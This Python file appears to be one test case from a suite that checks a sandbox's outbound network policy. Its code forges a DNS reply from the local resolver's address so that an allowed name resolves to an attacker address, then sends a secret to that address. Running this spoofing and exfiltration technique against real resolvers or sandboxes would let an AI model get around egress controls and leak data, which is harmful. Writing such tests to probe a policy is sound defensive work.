# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: where the name server is on this machine, a forged answer comes from its address and
#   port, so that any address is learnt for an allowed name
# proof: word
# needs: resolver
import socket
import struct

from attack import RESOLVER, SECRET, attempt, greeting, patience

NAME = b"\x03api\x07allowed\x07example\0"
IP_PKTINFO = 8
OUTSIDE = "127.66.66.66"


@attempt
def send():
    sink = socket.create_server((OUTSIDE, 443))
    sink.settimeout(patience(2))
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.bind(("127.0.0.1", 0))
    out.settimeout(patience(2))
    forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # Another address of loopback; the message says that it comes from the name server's.
    forger.bind(("127.0.0.12", 53))
    answer = b"\x12\x34\x81\x80\0\1\0\1\0\0\0\0" + NAME + b"\0\1\0\1"
    answer += b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(OUTSIDE)
    source = struct.pack("i4s4s", 0, socket.inet_aton(RESOLVER), bytes(4))
    forger.sendmsg([answer], [(socket.IPPROTO_IP, IP_PKTINFO, source)], 0, out.getsockname())
    out.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + NAME + b"\0\1\0\1", (RESOLVER, 53))
    out.recv(512)
    thief = socket.socket()
    thief.connect((OUTSIDE, 443))
    thief.send(greeting("api.allowed.example"))
    thief.send(b"\x17\3\3" + SECRET.encode())
    return sink.accept()[0].recv(5000) + b" " + SECRET.encode()
